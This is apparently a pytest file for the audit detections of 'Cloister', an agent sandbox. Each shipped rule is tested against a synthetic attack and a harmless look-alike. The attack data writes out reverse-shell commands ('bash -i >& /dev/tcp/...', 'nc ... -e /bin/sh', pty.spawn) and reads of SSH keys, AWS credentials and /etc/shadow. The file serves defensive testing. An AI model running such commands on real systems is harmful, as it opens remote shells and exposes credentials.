"""The detections that come with Cloister: each with its attack, and with what it must not take for one."""

from __future__ import annotations

import os
from typing import Any

import pytest

from cloister.audit.detect import Detector
from cloister.audit.detect_rules import rules_of, shipped
from cloister.audit.event import Endpoint, Event, File, Process
from cloister.policy.model import Audit

S = 1_000_000_000
T = 1_790_000_000 * S
NODE = Process(pid=7, uid="7" * 32, name="node", path="/usr/bin/node")
SSH = Process(pid=8, uid="8" * 32, name="ssh", path="/usr/bin/ssh")


def event(kind: str, *, at: float = 0.0, **fields: Any) -> Event:
    """Return an event of one run."""
    return Event(time=T + int(at * S), kind=kind, **{"run": "1aaaaaaaaaaa", "agent": "claude", "user": "al", **fields})


def opened(path: str, flags: int = 0, process: Process = NODE, **fields: Any) -> Event:
    """Return the event of an opened file."""
    return event("file.opened", file=File(path=path, flags=flags), process=process, **fields)


def runs(path: str, *words: str, pid: int = 9, parent: str = "", **fields: Any) -> Event:
    """Return the event of a program that is executed."""
    process = Process(
        pid=pid, uid=f"{pid:032x}", name=path.rpartition("/")[2], path=path, cmd_line=words, parent_uid=parent
    )
    return event("process.executed", process=process, **fields)


def connects(host: str, pid: int = 9, error: int = 0) -> Event:
    """Return the event of a connection."""
    process = Process(pid=pid, uid=f"{pid:032x}", name="python3", path="/usr/bin/python3")
    return event(
        "network.connected", process=process, endpoint=Endpoint(ip=host, port=4444, protocol="tcp"), error=error
    )


def connects_unix(path: str) -> Event:
    """Return the event of a connection to a Unix socket."""
    process = Process(pid=9, uid=f"{9:032x}", name="node", path="/usr/bin/node")
    return event("network.connected", process=process, endpoint=Endpoint(path=path, protocol="unix"))


def decided(
    host: str, decision: str = "blocked", reason: str = "host-not-allowed", at: float = 0.0, **more: Any
) -> Event:
    """Return the event of a connection that was decided."""
    endpoint = Endpoint(hostname=host, port=443, protocol="tls")
    return event("egress.decided", at=at, endpoint=endpoint, disposition=decision, reason=reason, **more)


def deletes(path: str, count: int) -> list[Event]:
    """Return events of files that are deleted."""
    return [event("file.deleted", at=number / 100, file=File(path=path.format(number))) for number in range(count)]


WRITE = os.O_WRONLY | os.O_CREAT
ATTACKS: list[tuple[str, list[Event]]] = [
    ("secret-file-read", [opened("/home/al/.ssh/id_ed25519")]),
    ("secret-file-read", [opened("/home/al/.aws/credentials", error=2)]),
    ("secret-file-read", [opened("/etc/shadow")]),
    ("secret-file-read", [opened("/home/al/.ssh/id_rsa", process=Process(pid=1, path="/home/al/src/ssh"))]),
    ("rc-file-write", [opened("/home/al/.bashrc", WRITE)]),
    ("rc-file-write", [event("file.renamed", file=File(path="/home/al/x", target="/home/al/.zshrc"))]),
    ("rc-file-write", [event("file.created", file=File(path="/home/al/src/app/.git/hooks/pre-commit"))]),
    ("reverse-shell", [connects("203.0.113.9"), runs("/usr/bin/bash", "sh", "-i")]),
    ("reverse-shell", [connects("203.0.113.9", pid=5), runs("/usr/bin/dash", "sh", pid=6, parent=f"{5:032x}")]),
    ("reverse-shell-words", [runs("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]),
    ("reverse-shell-words", [runs("/usr/bin/python3", "python3", "-c", "import pty;pty.spawn('sh')")]),
    ("reverse-shell-words", [runs("/usr/bin/nc", "nc", "203.0.113.9", "4444", "-e", "/bin/sh")]),
    ("denied-burst", [decided(f"h{number}.example.com", at=number) for number in range(20)]),
    ("metadata-address", [decided("169.254.169.254")]),
    ("private-address-scan", [decided(f"10.0.0.{number}", reason="address-refused", at=number) for number in range(5)]),
    ("first-seen-host", [decided("new.example.com", "allowed")]),
    ("process-traced", [event("process.traced", process=NODE, target=SSH)]),
    ("privilege-change", [event("process.uid-changed", process=NODE, details={"call": "setuid", "a0": 0})]),
    ("kernel-surface", [event("kernel.invoked", process=NODE, error=1, details={"call": "bpf"})]),
    ("kernel-surface", [event("kernel.invoked", process=NODE, details={"act": "module", "a0": 1})]),
    ("mount-tried", [event("file.mounted", file=File(path="/mnt"), error=1)]),
    ("program-from-memory", [runs("/memfd:x (deleted)", "x")]),
    ("mass-deletion", deletes("/home/al/src/app/src/{}.c", 500)),
    ("fork-flood", [event("process.forked", at=number / 500, process=NODE) for number in range(1000)]),
    ("run-refused-often", [event("run.refused", at=number, disposition="blocked", run="") for number in range(10)]),
    ("events-lost", [event("log.lost", run="", count=9)]),
    ("log-trouble", [event("log.trouble", run="")]),
    ("firewall-changed", [event("firewall.changed", run="")]),
]
HARMLESS: list[tuple[str, list[Event]]] = [
    ("secret-file-read", [opened("/home/al/.ssh/id_ed25519.pub"), opened("/home/al/.ssh/known_hosts")]),
    ("secret-file-read", [opened("/home/al/.ssh/id_ed25519", process=SSH), opened("/home/al/src/ssh/id_test")]),
    ("rc-file-write", [opened("/home/al/.bashrc"), opened("/home/al/src/app/my.bashrc.md", WRITE)]),
    ("rc-file-write", [event("file.created", file=File(path="/home/al/src/app/.git/hooks/pre-commit.sample"))]),
    ("reverse-shell", [connects("127.0.0.1"), runs("/usr/bin/bash", "bash", "-c", "make")]),
    ("reverse-shell", [connects("203.0.113.9", pid=5), runs("/usr/bin/bash", "bash", pid=6, parent=f"{4:032x}")]),
    ("reverse-shell", [connects("203.0.113.9"), runs("/usr/bin/git", "git", "status")]),
    ("reverse-shell", [connects_unix("/run/nscd/socket"), runs("/usr/bin/bash", "bash")]),
    ("reverse-shell", [connects("203.0.113.9", error=111), runs("/usr/bin/bash", "bash")]),
    ("reverse-shell", [connects("203.0.113.9"), runs("/usr/bin/bash", "bash", at=120)]),
    ("reverse-shell-words", [runs("/usr/bin/bash", "bash", "-c", "nc -z localhost 80; make -e all")]),
    ("denied-burst", [decided(f"h{number}.example.com", at=number) for number in range(19)]),
    ("denied-burst", [decided(f"h{number}.example.com", at=number * 10) for number in range(60)]),
    ("denied-burst", [decided(f"h{number}.example.com", "allowed", at=number / 10) for number in range(60)]),
    ("metadata-address", [decided("metadata.example.com")]),
    ("private-address-scan", [decided(f"h{number}.example.com", at=number) for number in range(9)]),
    ("first-seen-host", [decided("new.example.com")]),
    ("process-traced", [runs("/usr/bin/gdb", "gdb")]),
    ("privilege-change", [event("process.uid-changed", process=NODE, error=1, details={"call": "setuid", "a0": 0})]),
    ("privilege-change", [event("process.uid-changed", process=NODE, details={"call": "setuid", "a0": 1000})]),
    ("kernel-surface", [event("kernel.invoked", process=NODE, error=1, details={"call": "io_uring_setup"})]),
    ("mount-tried", [event("file.created", file=File(path="/mnt/x"))]),
    ("program-from-memory", [runs("/usr/bin/node", "node"), runs("/home/al/src/memfd:tool", "x")]),
    ("mass-deletion", deletes("/home/al/src/app/node_modules/{}/index.js", 600)),
    ("fork-flood", [event("process.forked", at=number / 10, process=NODE) for number in range(1500)]),
    (
        "run-refused-often",
        [event("run.refused", at=number * 60, disposition="blocked", run="") for number in range(20)],
    ),
    ("events-lost", [event("log.tier", run="")]),
    ("log-trouble", [event("log.opened", run="")]),
    ("firewall-changed", [event("policy.changed", run="")]),
]


def matched(events: list[Event]) -> set[str]:
    """Return the names of the detections that events bring."""
    detector = Detector(rules_of(Audit()))
    return {found.rule.rule.name for seq, one in enumerate(events, 1) for found in detector.feed(one, seq)}


@pytest.mark.parametrize(("name", "events"), ATTACKS, ids=lambda held: held if isinstance(held, str) else "")
def test_an_attack_is_detected(name: str, events: list[Event]) -> None:
    """What a rule is made for brings a match of this rule."""
    assert name in matched(events)


@pytest.mark.parametrize(("name", "events"), HARMLESS, ids=lambda held: held if isinstance(held, str) else "")
def test_ordinary_work_is_no_attack(name: str, events: list[Event]) -> None:
    """What looks alike, and is what agents do all day, brings no match of this rule."""
    assert name not in matched(events)


def test_every_rule_has_its_attack_and_its_twin() -> None:
    """No rule comes with Cloister that is not tried both ways."""
    names = {rule.name for rule in shipped()}

    assert {name for name, _ in ATTACKS} == names
    assert {name for name, _ in HARMLESS} == names


def test_rules_that_come_with_cloister_are_free_of_mistakes() -> None:
    """They pass the checks of a policy's own rules, under other names."""
    import msgspec

    own = tuple(msgspec.structs.replace(rule, name=f"own-{rule.name}"[:32]) for rule in shipped())

    assert len(rules_of(Audit(rules=own))) == 2 * len(own)
